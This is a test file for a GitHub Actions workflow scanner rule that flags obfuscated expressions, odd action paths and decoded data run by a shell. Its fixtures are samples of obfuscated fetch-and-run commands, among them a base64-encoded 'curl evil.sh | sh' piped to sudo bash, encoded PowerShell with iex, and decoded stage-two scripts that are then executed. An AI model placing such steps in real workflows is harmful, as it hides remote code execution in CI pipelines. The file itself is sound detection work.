import { describe, expect, it } from 'vitest';
import { positions, recordsWith, scanWith, yaml } from '../../../support/engine.js';

const RULE = 'obfuscated-expression';

describe(RULE, () => {
  it('reports quoted index notation on contexts, at the expression, bound to the job', () => {
    const records = recordsWith(RULE, yaml`
      on: issues
      env:
        TITLE: \${{ github['event']['issue']['title'] }}
      jobs:
        greet:
          if: github['event_name'] == 'issues'
          runs-on: ubuntu-latest
          steps:
            - run: |
                echo hello
                echo "\${{ secrets['DEPLOY_KEY'] }}" > key
    `);
    expect(positions(records.map((r) => r.finding))).toEqual(['3:10 LOW', '6:9 LOW', '11:17 LOW']);
    expect(records.map((r) => r.job)).toEqual([null, 'greet', 'greet']);
    expect(records[0]?.finding.rule_id).toBe(RULE);
    expect(records[0]?.finding.description).toContain("github.event.issue['title']");
  });

  it('accepts brackets that dot notation cannot replace or that index non-contexts', () => {
    expect(scanWith(RULE, yaml`
      on: push
      jobs:
        build:
          if: contains(fromJSON(needs['affected-for-tests'].outputs.packages), 'core')
          runs-on: ubuntu-latest
          steps:
            - run: echo "\${{ matrix['node-version'] }} \${{ github.event.inputs['my input'] }}"
            - run: echo "\${{ fromJSON(steps.meta.outputs.json)['version'] }} \${{ matrix.os[0] }}"
            - run: echo "\${{ github.event.commits[0].message }}"
    `)).toEqual([]);
  });

  it('reports remote uses: paths with . or .. or empty components, on steps and reusable workflows', () => {
    const findings = scanWith(RULE, yaml`
      on: push
      jobs:
        call:
          uses: org/repo/.github/workflows/../workflows/ci.yml@v1
        build:
          runs-on: ubuntu-latest
          steps:
            - uses: actions/checkout/.@v4
            - uses: github/codeql-action//init@v3
            - uses: actions/cache/../checkout@v4
            - uses: actions/checkout@v3
            - uses: ./../action/init
            - uses: ./.github/actions/setup/
            - uses: docker://alpine:3.20
    `);
    expect(positions(findings)).toEqual(['4:11 LOW', '8:15 LOW', '9:15 LOW', '10:15 LOW']);
    expect(findings.map((f) => f.description.match(/has (.*?);/)?.[1])).toEqual([
      'a `..` path component',
      'a `.` path component',
      'an empty path component (`//`)',
      'a `..` path component',
    ]);
  });

  it('reports empty components at either end of the path, and only there or after a slash', () => {
    const findings = scanWith(RULE, yaml`
      on: push
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - uses: /actions/checkout@v3
            - uses: actions/checkout/@v4
            - uses: actions/setup.node@v4
            - uses: actions/checkout.@v4
            - uses: org/repo/path/..@v1
            - uses: ORG/Repo/sub.dir/x@v1
    `);
    expect(positions(findings)).toEqual(['6:15 LOW', '7:15 LOW', '10:15 LOW']);
    expect(findings.map((f) => f.description.match(/has (.*?);/)?.[1])).toEqual([
      'an empty path component (`//`)',
      'an empty path component (`//`)',
      'a `..` path component',
    ]);
  });

  it('looks for quoted indexes in any case and spacing, and not in expressions without them', () => {
    const findings = scanWith(RULE, yaml`
      on: push
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - run: echo "\${{ GitHub[ 'event' ].issue.title }}"
            - run: echo "\${{ github.event.issue.title }} \${{ 'a[b]' }} \${{ matrix['os-name'] }}"
    `);
    expect(positions(findings)).toEqual(['6:20 LOW']);
  });

  it('reports decoded data run by a shell or interpreter, at the decoding command', () => {
    const findings = scanWith(RULE, yaml`
      on: push
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - run: |
                echo "setup"
                echo "Y3VybCBldmlsLnNoIHwgc2gK" | base64 -d | sudo bash
            - run: eval "$(echo "$PAYLOAD" | base64 --decode)"
            - run: xxd -r -p payload.hex | python3 -
            - shell: pwsh
              run: pwsh -EncodedCommand ZQBjAGgAbwAgAGgAaQA=
            - shell: pwsh
              run: iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P)))
    `);
    expect(positions(findings)).toEqual(['8:45 LOW', '9:14 LOW', '10:14 LOW', '12:14 LOW', '14:14 LOW']);
    expect(findings[0]?.description).toContain('`bash`');
  });

  it('sees a decoder whose name is split by quotes or backslashes, as the shell reads it', () => {
    const findings = scanWith(RULE, yaml`
      on: push
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - run: echo "$P" | b"ase"64 -d | sh
            - run: echo "$P" | b\\ase64 -d | sh
            - run: echo "$P" | ba'se'6'4' --decode | b'ash'
    `);
    expect(positions(findings)).toEqual(['6:26 LOW', '7:26 LOW', '8:26 LOW']);
  });

  it('reports a decoded file that the same script runs', () => {
    const findings = scanWith(RULE, yaml`
      on: push
      jobs:
        build:
          runs-on: windows-latest
          steps:
            - run: |
                echo "$STAGE2" | base64 -d > /tmp/stage2.sh
                chmod +x /tmp/stage2.sh && /tmp/stage2.sh
            - shell: cmd
              run: certutil -decode payload.b64 payload.ps1 && powershell -File payload.ps1
    `);
    expect(positions(findings)).toEqual(['7:28 LOW', '10:14 LOW']);
    expect(findings[0]?.description).toContain('stage2.sh');
  });

  it('accepts decoding into files or non-interpreters', () => {
    expect(scanWith(RULE, yaml`
      on: push
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - run: |
                echo "$CERT" | base64 --decode > certificate.p12
                base64 -d <<<"$GPG_KEY" | gpg --import --batch
                echo "Key is $(echo $KEY | base64 -d | wc -c) bytes"
                rcodesign sign --p12-file=<(echo $KEY | base64 -d) app
                echo "$ROW" | base64 --decode | jq -r .name
                decoded="$(printf '%s' "$RAW" | base64 --decode)"
                echo hi | base64 | sh
                echo "$KEY" | base64 -d > key.pem && ssh -i key.pem host true
                certutil -decode cert.b64 cert.pfx
    `)).toEqual([]);
  });

  it('checks composite actions', () => {
    expect(positions(scanWith(RULE, [
      {
        path: 'action.yml',
        text: yaml`
          runs:
            using: composite
            steps:
              - uses: actions//checkout@v4
              - run: echo "$X" | base64 -d | sh
                shell: bash
              - run: echo "\${{ github['token'] }}"
                shell: bash
        `,
      },
    ]))).toEqual(['4:13 LOW', '5:24 LOW', '7:18 LOW']);
  });

  it('reports a whole with: given as one expression, not inputs that are expressions', () => {
    const findings = scanWith(RULE, yaml`
      on: push
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - uses: actions/checkout@v3
              with: \${{ fromJSON(steps.setup.outputs.options) }}
            - uses: actions/checkout@v3
              with:
                ref: \${{ steps.setup.outputs.ref }}
        call:
          uses: ./.github/workflows/reusable.yml
          with: \${{ fromJSON(needs.build.outputs.inputs) }}
    `);
    expect(positions(findings)).toEqual(['7:15 LOW', '13:11 LOW']);
    expect(findings[0]?.description).toContain('is one expression (`${{ fromJSON(steps.setup.outputs.options) }}`) instead of a map of inputs');
  });
});

